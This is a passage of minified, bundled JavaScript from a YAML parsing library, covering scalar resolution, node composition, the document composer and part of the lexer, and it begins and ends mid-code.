break}if(a===0){let m=i.chomp==="+"&&o.length>0?`
`.repeat(Math.max(1,o.length-1)):"",g=s+i.length;return e.source&&(g+=e.source.length),{value:m,type:r,comment:i.comment,range:[s,g,g]}}let c=e.indent+i.indent,l=e.offset+i.length,u=0;for(let m=0;m<a;++m){let[g,w]=o[m];if(w===""||w==="\r")i.indent===0&&g.length>c&&(c=g.length);else{g.length<c&&t(l+g.length,"MISSING_CHAR","Block scalars with more-indented leading empty lines must use an explicit indentation indicator"),i.indent===0&&(c=g.length),u=m,c===0&&!n.atRoot&&t(l,"BAD_INDENT","Block scalar values in collections must be indented");break}l+=g.length+w.length+1}for(let m=o.length-1;m>=a;--m)o[m][0].length>c&&(a=m+1);let p="",d="",f=!1;for(let m=0;m<u;++m)p+=o[m][0].slice(c)+`
`;for(let m=u;m<a;++m){let[g,w]=o[m];l+=g.length+w.length+1;let v=w[w.length-1]==="\r";if(v&&(w=w.slice(0,-1)),w&&g.length<c){let S=`Block scalar lines must not be less indented than their ${i.indent?"explicit indentation indicator":"first line"}`;t(l-w.length-(v?2:1),"BAD_INDENT",S),g=""}r===Gu.Scalar.BLOCK_LITERAL?(p+=d+g.slice(c)+w,d=`
`):g.length>c||w[0]==="	"?(d===" "?d=`
`:!f&&d===`
`&&(d=`

`),p+=d+g.slice(c)+w,d=`
`,f=!0):w===""?d===`
`?p+=`
`:d=`
`:(p+=d+w,d=" ",f=!1)}switch(i.chomp){case"-":break;case"+":for(let m=a;m<o.length;++m)p+=`
`+o[m][0].slice(c);p[p.length-1]!==`
`&&(p+=`
`);break;default:p+=`
`}let h=s+i.length+e.source.length;return{value:p,type:r,comment:i.comment,range:[s,h,h]}}function tE({offset:n,props:e},t,s){if(e[0].type!=="block-scalar-header")return s(e[0],"IMPOSSIBLE","Block scalar header not found"),null;let{source:i}=e[0],r=i[0],o=0,a="",c=-1;for(let d=1;d<i.length;++d){let f=i[d];if(!a&&(f==="-"||f==="+"))a=f;else{let h=Number(f);!o&&h?o=h:c===-1&&(c=n+d)}}c!==-1&&s(c,"UNEXPECTED_TOKEN",`Block scalar header includes extra characters: ${i}`);let l=!1,u="",p=i.length;for(let d=1;d<e.length;++d){let f=e[d];switch(f.type){case"space":l=!0;case"newline":p+=f.source.length;break;case"comment":t&&!l&&s(f,"MISSING_CHAR","Comments must be separated from other tokens by white space characters"),p+=f.source.length,u=f.source.substring(1);break;case"error":s(f,"UNEXPECTED_TOKEN",f.message),p+=f.source.length;break;default:{let h=`Unexpected token in block scalar header: ${f.type}`;s(f,"UNEXPECTED_TOKEN",h);let m=f.source;m&&typeof m=="string"&&(p+=m.length)}}}return{mode:r,indent:o,chomp:a,comment:u,length:p}}function nE(n){let e=n.split(/\n( *)/),t=e[0],s=t.match(/^( *)/),r=[s?.[1]?[s[1],t.slice(s[1].length)]:["",t]];for(let o=1;o<e.length;o+=2)r.push([e[o],e[o+1]]);return r}Xy.resolveBlockScalar=eE});var Ku=D(Qy=>{"use strict";var zu=Re(),sE=bs();function iE(n,e,t){let{offset:s,type:i,source:r,end:o}=n,a,c,l=(d,f,h)=>t(s+d,f,h);switch(i){case"scalar":a=zu.Scalar.PLAIN,c=rE(r,l);break;case"single-quoted-scalar":a=zu.Scalar.QUOTE_SINGLE,c=oE(r,l);break;case"double-quoted-scalar":a=zu.Scalar.QUOTE_DOUBLE,c=aE(r,l);break;default:return t(n,"UNEXPECTED_TOKEN",`Expected a flow scalar value, but found: ${i}`),{value:"",type:null,comment:"",range:[s,s+r.length,s+r.length]}}let u=s+r.length,p=sE.resolveEnd(o,u,e,t);return{value:c,type:a,comment:p.comment,range:[s,u,p.offset]}}function rE(n,e){let t="";switch(n[0]){case"	":t="a tab character";break;case",":t="flow indicator character ,";break;case"%":t="directive indicator character %";break;case"|":case">":{t=`block scalar indicator ${n[0]}`;break}case"@":case"`":{t=`reserved character ${n[0]}`;break}}return t&&e(0,"BAD_SCALAR_START",`Plain value cannot start with ${t}`),Zy(n)}function oE(n,e){return(n[n.length-1]!=="'"||n.length===1)&&e(n.length,"MISSING_CHAR","Missing closing 'quote"),Zy(n.slice(1,-1)).replace(/''/g,"'")}function Zy(n){let e=/(.*?)\r?\n/sy,t=e.exec(n);if(!t)return n;let s,i;try{s=new RegExp("(?<![ 	])[ 	]+$"),i=new RegExp("^[ 	]+|(?<![ 	])[ 	]+$","g")}catch{s=/[ \t]+$/,i=/^[ \t]+|[ \t]+$/g}let r=t[1].replace(s,""),o=" ",a=e.lastIndex;for(;t=e.exec(n);){let l=t[1].replace(i,"");l===""?o===`
`?r+=o:o=`
`:(r+=o+l,o=" "),a=e.lastIndex}let c=/[ \t]*(.*)/sy;return c.lastIndex=a,t=c.exec(n),r+o+(t?.[1]??"")}function aE(n,e){let t="";for(let s=1;s<n.length-1;++s){let i=n[s];if(!(i==="\r"&&n[s+1]===`
`))if(i===`
`){let{fold:r,offset:o}=cE(n,s);t+=r,s=o}else if(i==="\\"){let r=n[++s],o=lE[r];if(o)t+=o;else if(r===`
`)for(r=n[s+1];r===" "||r==="	";)r=n[++s+1];else if(r==="\r"&&n[s+1]===`
`)for(r=n[++s+1];r===" "||r==="	";)r=n[++s+1];else if(r==="x"||r==="u"||r==="U"){let a=r==="x"?2:r==="u"?4:8;t+=uE(n,s+1,a,e),s+=a}else{let a=n.substr(s-1,2);e(s-1,"BAD_DQ_ESCAPE",`Invalid escape sequence ${a}`),t+=a}}else if(i===" "||i==="	"){let r=s,o=n[s+1];for(;o===" "||o==="	";)o=n[++s+1];o!==`
`&&!(o==="\r"&&n[s+2]===`
`)&&(t+=s>r?n.slice(r,s+1):i)}else t+=i}return(n[n.length-1]!=='"'||n.length===1)&&e(n.length,"MISSING_CHAR",'Missing closing "quote'),t}function cE(n,e){let t="",s=n[e+1];for(;(s===" "||s==="	"||s===`
`||s==="\r")&&!(s==="\r"&&n[e+2]!==`
`);)s===`
`&&(t+=`
`),e+=1,s=n[e+1];return t||(t=" "),{fold:t,offset:e}}var lE={0:"\0",a:"\x07",b:"\b",e:"\x1B",f:"\f",n:`
`,r:"\r",t:"	",v:"\v",N:"\x85",_:"\xA0",L:"\u2028",P:"\u2029"," ":" ",'"':'"',"/":"/","\\":"\\","	":"	"};function uE(n,e,t,s){let i=n.substr(e,t),o=i.length===t&&/^[0-9a-fA-F]+$/.test(i)?parseInt(i,16):NaN;try{return String.fromCodePoint(o)}catch{let a=n.substr(e-2,t+2);return s(e-2,"BAD_DQ_ESCAPE",`Invalid escape sequence ${a}`),a}}Qy.resolveFlowScalar=iE});var nb=D(tb=>{"use strict";var Nn=ee(),eb=Re(),pE=Vu(),dE=Ku();function fE(n,e,t,s){let{value:i,type:r,comment:o,range:a}=e.type==="block-scalar"?pE.resolveBlockScalar(n,e,s):dE.resolveFlowScalar(e,n.options.strict,s),c=t?n.directives.tagName(t.source,p=>s(t,"TAG_RESOLVE_FAILED",p)):null,l;n.options.stringKeys&&n.atKey?l=n.schema[Nn.SCALAR]:c?l=hE(n.schema,i,c,t,s):e.type==="scalar"?l=mE(n,i,e,s):l=n.schema[Nn.SCALAR];let u;try{let p=l.resolve(i,d=>s(t??e,"TAG_RESOLVE_FAILED",d),n.options);u=Nn.isScalar(p)?p:new eb.Scalar(p)}catch(p){let d=p instanceof Error?p.message:String(p);s(t??e,"TAG_RESOLVE_FAILED",d),u=new eb.Scalar(i)}return u.range=a,u.source=i,r&&(u.type=r),c&&(u.tag=c),l.format&&(u.format=l.format),o&&(u.comment=o),u}function hE(n,e,t,s,i){if(t==="!")return n[Nn.SCALAR];let r=[];for(let a of n.tags)if(!a.collection&&a.tag===t)if(a.default&&a.test)r.push(a);else return a;for(let a of r)if(a.test?.test(e))return a;let o=n.knownTags[t];return o&&!o.collection?(n.tags.push(Object.assign({},o,{default:!1,test:void 0})),o):(i(s,"TAG_RESOLVE_FAILED",`Unresolved tag: ${t}`,t!=="tag:yaml.org,2002:str"),n[Nn.SCALAR])}function mE({atKey:n,directives:e,schema:t},s,i,r){let o=t.tags.find(a=>(a.default===!0||n&&a.default==="key")&&a.test?.test(s))||t[Nn.SCALAR];if(t.compat){let a=t.compat.find(c=>c.default&&c.test?.test(s))??t[Nn.SCALAR];if(o.tag!==a.tag){let c=e.tagString(o.tag),l=e.tagString(a.tag),u=`Value may be parsed as either ${c} or ${l}`;r(i,"TAG_RESOLVE_FAILED",u,!0)}}return o}tb.composeScalar=fE});var ib=D(sb=>{"use strict";function gE(n,e,t){if(e){t??(t=e.length);for(let s=t-1;s>=0;--s){let i=e[s];switch(i.type){case"space":case"comment":case"newline":n-=i.source.length;continue}for(i=e[++s];i?.type==="space";)n+=i.source.length,i=e[++s];break}}return n}sb.emptyScalarPosition=gE});var ab=D(Xu=>{"use strict";var yE=oi(),bE=ee(),wE=Jy(),rb=nb(),vE=bs(),kE=ib(),xE={composeNode:ob,composeEmptyNode:Ju};function ob(n,e,t,s){let i=n.atKey,{spaceBefore:r,comment:o,anchor:a,tag:c}=t,l,u=!0;switch(e.type){case"alias":l=RE(n,e,s),(a||c)&&s(e,"ALIAS_PROPS","An alias node must not specify any properties");break;case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":case"block-scalar":l=rb.composeScalar(n,e,c,s),a&&(l.anchor=a.source.substring(1));break;case"block-map":case"block-seq":case"flow-collection":try{l=wE.composeCollection(xE,n,e,t,s),a&&(l.anchor=a.source.substring(1))}catch(p){let d=p instanceof Error?p.message:String(p);s(e,"RESOURCE_EXHAUSTION",d)}break;default:{let p=e.type==="error"?e.message:`Unsupported token (type: ${e.type})`;s(e,"UNEXPECTED_TOKEN",p),u=!1}}return l??(l=Ju(n,e.offset,void 0,null,t,s)),a&&l.anchor===""&&s(a,"BAD_ALIAS","Anchor cannot be an empty string"),i&&n.options.stringKeys&&(!bE.isScalar(l)||typeof l.value!="string"||l.tag&&l.tag!=="tag:yaml.org,2002:str")&&s(c??e,"NON_STRING_KEY","With stringKeys, all keys must be strings"),r&&(l.spaceBefore=!0),o&&(e.type==="scalar"&&e.source===""?l.comment=o:l.commentBefore=o),n.options.keepSourceTokens&&u&&(l.srcToken=e),l}function Ju(n,e,t,s,{spaceBefore:i,comment:r,anchor:o,tag:a,end:c},l){let u={type:"scalar",offset:kE.emptyScalarPosition(e,t,s),indent:-1,source:""},p=rb.composeScalar(n,u,a,l);return o&&(p.anchor=o.source.substring(1),p.anchor===""&&l(o,"BAD_ALIAS","Anchor cannot be an empty string")),i&&(p.spaceBefore=!0),r&&(p.comment=r,p.range[2]=c),p}function RE({options:n},{offset:e,source:t,end:s},i){let r=new yE.Alias(t.substring(1));r.source===""&&i(e,"BAD_ALIAS","Alias cannot be an empty string"),r.source.endsWith(":")&&i(e+t.length-1,"BAD_ALIAS","Alias ending in : is ambiguous",!0);let o=e+t.length,a=vE.resolveEnd(s,o,n.strict,i);return r.range=[e,o,a.offset],a.comment&&(r.comment=a.comment),r}Xu.composeEmptyNode=Ju;Xu.composeNode=ob});var ub=D(lb=>{"use strict";var OE=xi(),cb=ab(),SE=bs(),ME=Mi();function AE(n,e,{offset:t,start:s,value:i,end:r},o){let a=Object.assign({_directives:e},n),c=new OE.Document(void 0,a),l={atKey:!1,atRoot:!0,directives:c.directives,options:c.options,schema:c.schema},u=ME.resolveProps(s,{indicator:"doc-start",next:i??r?.[0],offset:t,onError:o,parentIndent:0,startOnNewline:!0});u.found&&(c.directives.docStart=!0,i&&(i.type==="block-map"||i.type==="block-seq")&&!u.hasNewline&&o(u.end,"MISSING_CHAR","Block collection cannot start on same line with directives-end marker")),c.contents=i?cb.composeNode(l,i,u,o):cb.composeEmptyNode(l,u.end,s,null,u,o);let p=c.contents.range[2],d=SE.resolveEnd(r,p,!1,o);return d.comment&&(c.comment=d.comment),c.range=[t,p,d.offset],c}lb.composeDoc=AE});var Qu=D(fb=>{"use strict";var NE=require("process"),EE=Pl(),_E=xi(),Ai=Si(),pb=ee(),$E=ub(),CE=bs();function Ni(n){if(typeof n=="number")return[n,n+1];if(Array.isArray(n))return n.length===2?n:[n[0],n[1]];let{offset:e,source:t}=n;return[e,e+(typeof t=="string"?t.length:1)]}function db(n){let e="",t=!1,s=!1;for(let i=0;i<n.length;++i){let r=n[i];switch(r[0]){case"#":e+=(e===""?"":s?`

`:`
`)+(r.substring(1)||" "),t=!0,s=!1;break;case"%":n[i+1]?.[0]!=="#"&&(i+=1),t=!1;break;default:t||(s=!0),t=!1}}return{comment:e,afterEmptyLine:s}}var Zu=class{constructor(e={}){this.doc=null,this.atDirectives=!1,this.prelude=[],this.errors=[],this.warnings=[],this.onError=(t,s,i,r)=>{let o=Ni(t);r?this.warnings.push(new Ai.YAMLWarning(o,s,i)):this.errors.push(new Ai.YAMLParseError(o,s,i))},this.directives=new EE.Directives({version:e.version||"1.2"}),this.options=e}decorate(e,t){let{comment:s,afterEmptyLine:i}=db(this.prelude);if(s){let r=e.contents;if(t)e.comment=e.comment?`${e.comment}
${s}`:s;else if(i||e.directives.docStart||!r)e.commentBefore=s;else if(pb.isCollection(r)&&!r.flow&&r.items.length>0){let o=r.items[0];pb.isPair(o)&&(o=o.key);let a=o.commentBefore;o.commentBefore=a?`${s}
${a}`:s}else{let o=r.commentBefore;r.commentBefore=o?`${s}
${o}`:s}}if(t){for(let r=0;r<this.errors.length;++r)e.errors.push(this.errors[r]);for(let r=0;r<this.warnings.length;++r)e.warnings.push(this.warnings[r])}else e.errors=this.errors,e.warnings=this.warnings;this.prelude=[],this.errors=[],this.warnings=[]}streamInfo(){return{comment:db(this.prelude).comment,directives:this.directives,errors:this.errors,warnings:this.warnings}}*compose(e,t=!1,s=-1){for(let i of e)yield*this.next(i);yield*this.end(t,s)}*next(e){switch(NE.env.LOG_STREAM&&console.dir(e,{depth:null}),e.type){case"directive":this.directives.add(e.source,(t,s,i)=>{let r=Ni(e);r[0]+=t,this.onError(r,"BAD_DIRECTIVE",s,i)}),this.prelude.push(e.source),this.atDirectives=!0;break;case"document":{let t=$E.composeDoc(this.options,this.directives,e,this.onError);this.atDirectives&&!t.directives.docStart&&this.onError(e,"MISSING_CHAR","Missing directives-end/doc-start indicator line"),this.decorate(t,!1),this.doc&&(yield this.doc),this.doc=t,this.atDirectives=!1;break}case"byte-order-mark":case"space":break;case"comment":case"newline":this.prelude.push(e.source);break;case"error":{let t=e.source?`${e.message}: ${JSON.stringify(e.source)}`:e.message,s=new Ai.YAMLParseError(Ni(e),"UNEXPECTED_TOKEN",t);this.atDirectives||!this.doc?this.errors.push(s):this.doc.errors.push(s);break}case"doc-end":{if(!this.doc){let s="Unexpected doc-end without preceding document";this.errors.push(new Ai.YAMLParseError(Ni(e),"UNEXPECTED_TOKEN",s));break}this.doc.directives.docEnd=!0;let t=CE.resolveEnd(e.end,e.offset+e.source.length,this.doc.options.strict,this.onError);if(this.decorate(this.doc,!0),t.comment){let s=this.doc.comment;this.doc.comment=s?`${s}
${t.comment}`:t.comment}this.doc.range[2]=t.offset;break}default:this.errors.push(new Ai.YAMLParseError(Ni(e),"UNEXPECTED_TOKEN",`Unsupported token ${e.type}`))}}*end(e=!1,t=-1){if(this.doc)this.decorate(this.doc,!0),yield this.doc,this.doc=null;else if(e){let s=Object.assign({_directives:this.directives},this.options),i=new _E.Document(void 0,s);this.atDirectives&&this.onError(t,"MISSING_CHAR","Missing directives-end indicator line"),i.range=[0,t,t],this.decorate(i,!1),yield i}}};fb.Composer=Zu});var gb=D(ua=>{"use strict";var DE=Vu(),FE=Ku(),TE=Si(),hb=pi();function LE(n,e=!0,t){if(n){let s=(i,r,o)=>{let a=typeof i=="number"?i:Array.isArray(i)?i[0]:i.offset;if(t)t(a,r,o);else throw new TE.YAMLParseError([a,a+1],r,o)};switch(n.type){case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":return FE.resolveFlowScalar(n,e,s);case"block-scalar":return DE.resolveBlockScalar({options:{strict:e}},n,s)}}return null}function IE(n,e){let{implicitKey:t=!1,indent:s,inFlow:i=!1,offset:r=-1,type:o="PLAIN"}=e,a=hb.stringifyString({type:o,value:n},{implicitKey:t,indent:s>0?" ".repeat(s):"",inFlow:i,options:{blockQuote:!0,lineWidth:-1}}),c=e.end??[{type:"newline",offset:-1,indent:s,source:`
`}];switch(a[0]){case"|":case">":{let l=a.indexOf(`
`),u=a.substring(0,l),p=a.substring(l+1)+`
`,d=[{type:"block-scalar-header",offset:r,indent:s,source:u}];return mb(d,c)||d.push({type:"newline",offset:-1,indent:s,source:`
`}),{type:"block-scalar",offset:r,indent:s,props:d,source:p}}case'"':return{type:"double-quoted-scalar",offset:r,indent:s,source:a,end:c};case"'":return{type:"single-quoted-scalar",offset:r,indent:s,source:a,end:c};default:return{type:"scalar",offset:r,indent:s,source:a,end:c}}}function PE(n,e,t={}){let{afterKey:s=!1,implicitKey:i=!1,inFlow:r=!1,type:o}=t,a="indent"in n?n.indent:null;if(s&&typeof a=="number"&&(a+=2),!o)switch(n.type){case"single-quoted-scalar":o="QUOTE_SINGLE";break;case"double-quoted-scalar":o="QUOTE_DOUBLE";break;case"block-scalar":{let l=n.props[0];if(l.type!=="block-scalar-header")throw new Error("Invalid block scalar header");o=l.source[0]===">"?"BLOCK_FOLDED":"BLOCK_LITERAL";break}default:o="PLAIN"}let c=hb.stringifyString({type:o,value:e},{implicitKey:i||a===null,indent:a!==null&&a>0?" ".repeat(a):"",inFlow:r,options:{blockQuote:!0,lineWidth:-1}});switch(c[0]){case"|":case">":jE(n,c);break;case'"':ep(n,c,"double-quoted-scalar");break;case"'":ep(n,c,"single-quoted-scalar");break;default:ep(n,c,"scalar")}}function jE(n,e){let t=e.indexOf(`
`),s=e.substring(0,t),i=e.substring(t+1)+`
`;if(n.type==="block-scalar"){let r=n.props[0];if(r.type!=="block-scalar-header")throw new Error("Invalid block scalar header");r.source=s,n.source=i}else{let{offset:r}=n,o="indent"in n?n.indent:-1,a=[{type:"block-scalar-header",offset:r,indent:o,source:s}];mb(a,"end"in n?n.end:void 0)||a.push({type:"newline",offset:-1,indent:o,source:`
`});for(let c of Object.keys(n))c!=="type"&&c!=="offset"&&delete n[c];Object.assign(n,{type:"block-scalar",indent:o,props:a,source:i})}}function mb(n,e){if(e)for(let t of e)switch(t.type){case"space":case"comment":n.push(t);break;case"newline":return n.push(t),!0}return!1}function ep(n,e,t){switch(n.type){case"scalar":case"double-quoted-scalar":case"single-quoted-scalar":n.type=t,n.source=e;break;case"block-scalar":{let s=n.props.slice(1),i=e.length;n.props[0].type==="block-scalar-header"&&(i-=n.props[0].source.length);for(let r of s)r.offset+=i;delete n.props,Object.assign(n,{type:t,source:e,end:s});break}case"block-map":case"block-seq":{let i={type:"newline",offset:n.offset+e.length,indent:n.indent,source:`
`};delete n.items,Object.assign(n,{type:t,source:e,end:[i]});break}default:{let s="indent"in n?n.indent:-1,i="end"in n&&Array.isArray(n.end)?n.end.filter(r=>r.type==="space"||r.type==="comment"||r.type==="newline"):[];for(let r of Object.keys(n))r!=="type"&&r!=="offset"&&delete n[r];Object.assign(n,{type:t,indent:s,source:e,end:i})}}}ua.createScalarToken=IE;ua.resolveAsScalar=LE;ua.setScalarValue=PE});var bb=D(yb=>{"use strict";var qE=n=>"type"in n?da(n):pa(n);function da(n){switch(n.type){case"block-scalar":{let e="";for(let t of n.props)e+=da(t);return e+n.source}case"block-map":case"block-seq":{let e="";for(let t of n.items)e+=pa(t);return e}case"flow-collection":{let e=n.start.source;for(let t of n.items)e+=pa(t);for(let t of n.end)e+=t.source;return e}case"document":{let e=pa(n);if(n.end)for(let t of n.end)e+=t.source;return e}default:{let e=n.source;if("end"in n&&n.end)for(let t of n.end)e+=t.source;return e}}}function pa({start:n,key:e,sep:t,value:s}){let i="";for(let r of n)i+=r.source;if(e&&(i+=da(e)),t)for(let r of t)i+=r.source;return s&&(i+=da(s)),i}yb.stringify=qE});var xb=D(kb=>{"use strict";var tp=Symbol("break visit"),UE=Symbol("skip children"),wb=Symbol("remove item");function En(n,e){"type"in n&&n.type==="document"&&(n={start:n.start,value:n.value}),vb(Object.freeze([]),n,e)}En.BREAK=tp;En.SKIP=UE;En.REMOVE=wb;En.itemAtPath=(n,e)=>{let t=n;for(let[s,i]of e){let r=t?.[s];if(r&&"items"in r)t=r.items[i];else return}return t};En.parentCollection=(n,e)=>{let t=En.itemAtPath(n,e.slice(0,-1)),s=e[e.length-1][0],i=t?.[s];if(i&&"items"in i)return i;throw new Error("Parent collection not found")};function vb(n,e,t){let s=t(e,n);if(typeof s=="symbol")return s;for(let i of["key","value"]){let r=e[i];if(r&&"items"in r){for(let o=0;o<r.items.length;++o){let a=vb(Object.freeze(n.concat([[i,o]])),r.items[o],t);if(typeof a=="number")o=a-1;else{if(a===tp)return tp;a===wb&&(r.items.splice(o,1),o-=1)}}typeof s=="function"&&i==="key"&&(s=s(e,n))}}return typeof s=="function"?s(e,n):s}kb.visit=En});var fa=D(Ge=>{"use strict";var np=gb(),HE=bb(),YE=xb(),sp="\uFEFF",ip="",rp="",op="",WE=n=>!!n&&"items"in n,BE=n=>!!n&&(n.type==="scalar"||n.type==="single-quoted-scalar"||n.type==="double-quoted-scalar"||n.type==="block-scalar");function GE(n){switch(n){case sp:return"<BOM>";case ip:return"<DOC>";case rp:return"<FLOW_END>";case op:return"<SCALAR>";default:return JSON.stringify(n)}}function VE(n){switch(n){case sp:return"byte-order-mark";case ip:return"doc-mode";case rp:return"flow-error-end";case op:return"scalar";case"---":return"doc-start";case"...":return"doc-end";case"":case`
`:case`\r
`:return"newline";case"-":return"seq-item-ind";case"?":return"explicit-key-ind";case":":return"map-value-ind";case"{":return"flow-map-start";case"}":return"flow-map-end";case"[":return"flow-seq-start";case"]":return"flow-seq-end";case",":return"comma"}switch(n[0]){case" ":case"	":return"space";case"#":return"comment";case"%":return"directive-line";case"*":return"alias";case"&":return"anchor";case"!":return"tag";case"'":return"single-quoted-scalar";case'"':return"double-quoted-scalar";case"|":case">":return"block-scalar-header"}return null}Ge.createScalarToken=np.createScalarToken;Ge.resolveAsScalar=np.resolveAsScalar;Ge.setScalarValue=np.setScalarValue;Ge.stringify=HE.stringify;Ge.visit=YE.visit;Ge.BOM=sp;Ge.DOCUMENT=ip;Ge.FLOW_END=rp;Ge.SCALAR=op;Ge.isCollection=WE;Ge.isScalar=BE;Ge.prettyToken=GE;Ge.tokenType=VE});var lp=D(Ob=>{"use strict";var Ei=fa();function mt(n){switch(n){case void 0:case" ":case`
`:case"\r":case"	":return!0;default:return!1}}var Rb=new Set("0123456789ABCDEFabcdef"),zE=new Set("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-#;/?:@&=+$_.!~*'()"),ha=new Set(",[]{}"),KE=new Set(` ,[]{}
\r	`),ap=n=>!n||KE.has(n),cp=class{constructor(){this.atEnd=!1,this.blockScalarIndent=-1,this.blockScalarKeep=!1,this.buffer="",this.flowKey=!1,this.flowLevel=0,this.indentNext=0,this.indentValue=0,this.lineEndPos=null,this.next=null,this.pos=0}*lex(e,t=!1){if(e){if(typeof e!="string")throw TypeError("source is not a string");this.buffer=this.buffer?this.buffer+e:e,this.lineEndPos=null}this.atEnd=!t;let s=this.next??"stream";for(;s&&(t||this.hasChars(1));)s=yield*this.parseNext(s)}atLineEnd(){let e=this.pos,t=this.buffer[e];for(;t===" "||t==="	";)t=this.buffer[++e];return!t||t==="#"||t===`
`?!0:t==="\r"?this.buffer[e+1]===`
`:!1}charAt(e){return this.buffer[this.pos+e]}continueScalar(e){let t=this.buffer[e];if(this.indentNext>0){let s=0;for(;t===" ";)t=this.buffer[++s+e];if(t==="\r"){let i=this.buffer[s+e+1];if(i===`
`||!i&&!this.atEnd)return e+s+1}return t===`
`||s>=this.indentNext||!t&&!this.atEnd?e+s:-1}if(t==="-"||t==="."){let s=this.buffer.substr(e,3);if((s==="---"||s==="...")&&mt(this.buffer[e+3]))return-1}return e}getLine(){let e=this.lineEndPos;return(typeof e!="number"||e!==-1&&e<this.pos)&&(e=this.buffer.indexOf(`
`,this.pos),this.lineEndPos=e),e===-1?this.atEnd?this.buffer.substring(this.pos):null:(this.buffer[e-1]==="\r"&&(e-=1),this.buffer.substring(this.pos,e))}hasChars(e){return this.pos+e<=this.buffer.length}setNext(e){return this.buffer=this.buffer.substring(this.pos),this.pos=0,this.lineEndPos=null,this.next=e,null}peek(e){return this.buffer.substr(this.pos,e)}*parseNext(e){switch(e){case"stream":return yield*this.parseStream();case"line-start":return yield*this.parseLineStart();case"block-start":return yield*this.parseBlockStart();case"doc":return yield*this.parseDocument();case"flow":return yield*this.parseFlowCollection();case"quoted-scalar":return yield*this.parseQuotedScalar();case"block-scalar":return yield*this.parseBlockScalar();case"plain-scalar":return yield*this.parsePlainScalar()}}*parseStream(){let e=this.getLine();if(e===null)return this.setNext("stream");if(e[0]===Ei.BOM&&(yield*this.pushCount(1),e=e.substring(1)),e[0]==="%"){let t=e.length,s=e.indexOf("#");for(;s!==-1;){let r=e[s-1];if(r===" "||r==="	"){t=s-1;break}else s=e.indexOf("#",s+1)}for(;;){let r=e[t-1];if(r===" "||r==="	")t-=1;else break}let i=(yield*this.pushCount(t))+(yield*this.pushSpaces(!0));return yield*this.pushCount(e.length-i),this.pushNewline(),"stream"}if(this.atLineEnd()){let t=yield*this.pushSpaces(!0);return yield*this.pushCount(e.length-t),yield*this.pushNewline(),"stream"}return yield Ei.DOCUMENT,yield*this.parseLineStart()}*parseLineStart(){let e=this.charAt(0);if(!e&&!this.atEnd)return this.setNext("line-start");if(e==="-"||e==="."){if(!this.atEnd&&!this.hasChars(4))return this.setNext("line-start");let t=this.peek(3);if((t==="---"||t==="...")&&mt(this.charAt(3)))return yield*this.pushCount(3),this.indentValue=0,this.indentNext=0,t==="---"?"doc":"stream"}return this.indentValue=yield*this.pushSpaces(!1),this.indentNext>this.indentValue&&!mt(this.charAt(1))&&(this.indentNext=this.indentValue),yield*this.parseBlockStart()}*parseBlockStart(){let[e,t]=this.peek(2);if(!t&&!this.atEnd)return this.setNext("block-start");if((e==="-"||e==="?"||e===":")&&mt(t)){let s=(yield*this.pushCount(1))+(yield*this.pushSpaces(!0));return this.indentNext=this.indentValue+1,this.indentValue+=s,"block-start"}return"doc"}*parseDocument(){yield*this.pushSpaces(!0);let e=this.getLine();if(e===null)return this.setNext("doc");let t=yield*this.pushIndicators();switch(e[t]){case"#":yield*this.pushCount(e.length-t);case void 0:return yield*this.pushNewline(),yield*this.parseLineStart();case"{":case"[":return yield*this.pushCount(1),this.flowKey=!1,this.flowLevel=1,"flow";case"}":case"]":return yield*this.pushCount(1),"doc";case"*":return yield*this.pushUntil(ap),"doc";case'"':case"'":return yield*this.parseQuotedScalar();case"|":case">":return t+=yield*this.parseBlockScalarHeader(),t+=yield*this.pushSpaces(!0),yield*this.pushCount(e.length-t),yield*this.pushNewline(),yield*this.parseBlockScalar();default:return yield*this.parsePlainScalar()}}*parseFlowCollection(){let e,t,s=-1;do e=yield*this.pushNewline(),e>0?(t=yield*this.pushSpaces(!1),this.indentValue=s=t):t=0,t+=yield*this.pushSpaces(!0);while(e+t>0);let i=this.getLine();if(i===null)return this.setNext("flow");if((s!==-1&&s<this.indentNext&&i[0]!=="#"||s===0&&(i.startsWith("---")||i.startsWith("..."))&&mt(i[3]))&&!(s===this.indentNext-1&&this.flowLevel===1&&(i[0]==="]"||i[0]==="}")))return this.flowLevel=0,yield Ei.FLOW_END,yield*this.parseLineStart();let r=0;for(;i[r]===",";)r+=yield*this.pushCount(1),r+=yield*this.pushSpaces(!0),this.flowKey=!1;switch(r+=yield*this.pushIndicators(),i[r]){case void 0:return"flow";case"#":return yield*this.pushCount(i.length-r),"flow";case"{":case"[":return yield*this.pushCount(1),this.flowKey=!1,this.flowLevel+=1,"flow";case"}":case"]":return yield*this.pushCount(1),this.flowKey=!0,this.flowLevel-=1,this.flowLevel?"flow":"doc";case"*":return yield*this.pushUntil(ap),"flow";case'"':case"'":return this.flowKey=!0,yield*this.parseQuotedScalar();case":":{let o=this.charAt(1);if(this.flowKey||mt(o)||o===",")return this.flowKey=!1,yield*this.pushCount(1),yield*this.pushSpaces(!0),"flow"}default:return this.flowKey=!1,yield*this.parsePlainScalar()}}*parseQuotedScalar(){let e=this.charAt(0),t=this.buffer.indexOf(e,this.pos+1);if(e==="'")for(;t!==-1&&this.buffer[t+1]==="'";)t=this.buffer.indexOf("'",t+2);else for(;t!==-1;){let r=0;for(;this.buffer[t-1-r]==="\\";)r+=1;if(r%2===0)break;t=this.buffer.indexOf('"',t+1)}let s=this.buffer.substring(0,t),i=s.indexOf(`
`,this.pos);if(i!==-1){for(;i!==-1;){let r=this.continueScalar(i+1);if(r===-1)break;i=s.indexOf(`
`,r)}i!==-1&&(t=i-(s[i-1]==="\r"?2:1))}if(t===-1){if(!this.atEnd)return this.setNext("quoted-scalar");t=this.buffer.length}return yield*this.pushToIndex(t+1,!1),this.flowLevel?"flow":"doc"}*parseBlockScalarHeader(){this.blockScalarIndent=-1,this.blockScalarKeep=!1;let e=this.pos;for(;;){let t=this.buffer[++e];if(t==="+")this.blockScalarKeep=!0;else if(t>"0"&&t<="9")this.blockScalarIndent=Number(t)-1;else if(t!=="-")break}return yield*this.pushUntil(t=>mt(t)||t==="#")}*parseBlockScalar(){let e=this.pos-1,t=0,s;e:for(let r=this.pos;s=this.buffer[r];++r)switch(s){case" ":t+=1;break;case`
`:e=r,t=0;break;case"\r":{let o=this.buffer[r+1];if(!o&&!this.atEnd)return this.setNext("block-scalar");if(o===`
